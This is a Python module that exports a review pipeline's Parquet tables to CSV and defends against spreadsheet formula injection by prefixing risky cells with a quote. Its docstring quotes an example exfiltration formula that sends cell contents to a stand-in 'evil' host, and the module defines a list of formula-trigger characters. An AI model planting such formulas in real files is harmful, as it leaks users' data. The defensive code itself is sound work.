"""CSV exports of the published tables, safe to open in a spreadsheet.

Review text is data, never a formula: a cell that starts with ``=``, ``+``, ``-``, ``@`` (or
their full-width forms), a tab or a carriage return would be evaluated by Excel, LibreOffice
or Google Sheets (CSV/formula injection, e.g. ``=HYPERLINK("http://evil/?"&A1)``). Such cells
are written with a leading ``'``, which spreadsheets show as text and do not evaluate.
Numbers stay numbers (a negative rating is not text). Files are UTF-8 with a BOM so that
Excel shows Chinese correctly, written aside and renamed into place, and always inside
``--out``.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow.parquet as pq

from pipeline.catalog import OUTPUTS
from pipeline.store.writers import inside, replacing

#: Leading characters that make a spreadsheet cell a formula (OWASP list + full-width forms).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

#: Tables ``revsat export`` can write: the published outputs.
EXPORTABLE = tuple(t.name for t in OUTPUTS)


def neutralise(value: object) -> object:
    """Return ``value`` safe for a spreadsheet cell: strings starting with a formula
    character get a leading ``'``; lists are joined with spaces first; other values pass."""
    if isinstance(value, list | tuple):
        value = " ".join(str(v) for v in value)
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def export_csv(out_dir: Path, table: str, batch_rows: int = 50_000) -> Path:
    """Write ``OUT/<table>.csv`` from ``OUT/<table>.parquet`` with every text cell
    neutralised; returns the CSV path."""
    if table not in EXPORTABLE:
        raise ValueError(f"unknown table {table!r}; one of {', '.join(EXPORTABLE)}")
    source = inside(out_dir, f"{table}.parquet")
    if not source.is_file():
        raise FileNotFoundError(f"{source}: no such table; run `revsat score` first")
    target = inside(out_dir, f"{table}.csv")
    parquet = pq.ParquetFile(source)
    with replacing(target) as tmp, tmp.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(parquet.schema_arrow.names)
        for batch in parquet.iter_batches(batch_size=batch_rows):
            columns = [[neutralise(v) for v in col.to_pylist()] for col in batch.columns]
            writer.writerows(zip(*columns, strict=True))
    return target
